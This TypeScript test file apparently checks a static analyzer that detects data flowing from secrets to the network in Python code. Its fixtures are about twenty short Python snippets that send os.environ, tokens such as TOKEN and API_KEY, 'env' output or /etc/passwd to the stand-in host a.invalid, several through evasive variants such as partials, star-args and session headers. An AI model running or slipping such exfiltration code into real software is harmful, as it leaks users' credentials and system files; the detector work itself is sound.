import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { evaluate, lines } from '../../../support/evaluated.ts';

/** Name, the source of `own.py` or all files, and the facts in the order they are found. */
const CASES: [string, string | Record<string, string>, string[]][] = [
  [
    'thread send',
    `import threading, os, requests
def send(d): requests.post('http://a.invalid', data=d)
threading.Thread(target=send, args=(dict(os.environ),)).start()`,
    ['own.py:2 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'lambda send',
    `import os, requests
(lambda d: requests.post('http://a.invalid', data=d))(str(os.environ))`,
    ['own.py:2 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'format send',
    `import os, requests
requests.post('http://a.invalid', data='x={}'.format(os.environ['TOKEN']))`,
    ['own.py:2 import flow secret-variable os.environ TOKEN > network-send requests.post http://a.invalid'],
  ],
  [
    'fstring',
    `import os, requests
requests.post('http://a.invalid', data=f"x={os.environ['API_KEY']!r:>10}")`,
    ['own.py:2 import flow secret-variable os.environ API_KEY > network-send requests.post http://a.invalid'],
  ],
  [
    'loop env',
    `import os, requests
for k in os.environ:
    requests.post('http://a.invalid', data=k + '=' + os.environ[k])`,
    [
      'own.py:3 import flow environment-all os.environ > network-send requests.post http://a.invalid',
      'own.py:3 import flow environment os.environ > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'filter env',
    `import os, requests
s = {k: v for k, v in os.environ.items() if 'KEY' in k}
requests.post('http://a.invalid', json=s)`,
    ['own.py:3 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'partial send',
    `import functools, os, requests
post = functools.partial(requests.post, 'http://a.invalid')
post(data=dict(os.environ))`,
    ['own.py:3 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'generator flow',
    `import requests
def toks():
    for l in open('/etc/passwd'):
        yield l.strip()
requests.post('http://a.invalid', json=list(toks()))`,
    ['own.py:5 import flow system-file open /etc/passwd > network-send requests.post http://a.invalid'],
  ],
  [
    'except flow',
    `import os, requests
try:
    d = dict(os.environ)
except Exception:
    d = {}
requests.post('http://a.invalid', data=d)`,
    ['own.py:6 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'str methods',
    `import os, requests
d = str(dict(os.environ)).upper().replace('A', 'B').split(',')[0].strip()
requests.post('http://a.invalid', data=d)`,
    ['own.py:3 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'nested containers',
    `import os, requests
x = {'a': [{'b': (os.environ['TOKEN'],)}]}
requests.post('http://a.invalid', json=x)`,
    ['own.py:3 import flow secret-variable os.environ TOKEN > network-send requests.post http://a.invalid'],
  ],
  [
    'star args flow',
    `import os, requests
a = ['http://a.invalid', dict(os.environ)]
requests.post(*a)`,
    ['own.py:3 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'kwargs flow',
    `import os, requests
k = {'url': 'http://a.invalid', 'data': dict(os.environ)}
requests.post(**k)`,
    ['own.py:3 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'headers',
    `import os, requests
requests.get('http://a.invalid', headers={'X': os.environ['TOKEN']})`,
    ['own.py:2 import flow secret-variable os.environ TOKEN > network-send requests.get http://a.invalid'],
  ],
  [
    'cookies params',
    `import os, requests
requests.get('http://a.invalid', params={'q': os.environ['TOKEN']})`,
    ['own.py:2 import flow secret-variable os.environ TOKEN > network-send requests.get http://a.invalid'],
  ],
  [
    'session headers',
    `import os, requests
s = requests.Session()
s.headers.update({'X': os.environ['TOKEN']})
s.get('http://a.invalid')`,
    [
      'own.py:4 import flow secret-variable os.environ TOKEN > network-send requests.Session.get http://a.invalid',
    ],
  ],
  [
    'instance list',
    `import os, requests
class C:
    items = []
    def add(self, x): self.items.append(x)
    def flush(self): requests.post('http://a.invalid', json=self.items)
c = C(); c.add(dict(os.environ)); c.flush()`,
    ['own.py:5 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'module const address',
    `HOST = 'a.invalid'
import requests, os
requests.post('https://' + HOST + '/x', data=os.environ['TOKEN'])`,
    [
      'own.py:3 import flow secret-variable os.environ TOKEN > network-send requests.post https://a.invalid/x',
    ],
  ],
  [
    'os.environ copy',
    `import os, requests
e = os.environ.copy()
requests.post('http://a.invalid', data=e)`,
    ['own.py:3 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'env subprocess',
    `import subprocess, requests
requests.post('http://a.invalid', data=subprocess.getoutput('env'))`,
    [
      'own.py:2 import flow environment-all subprocess.getoutput env > network-send requests.post http://a.invalid',
    ],
  ],
];

describe('ways of a value through a program', () => {
  for (const [name, files, expected] of CASES) {
    it(name, () => assert.deepEqual(lines(evaluate(files), 'flow'), expected));
  }
});
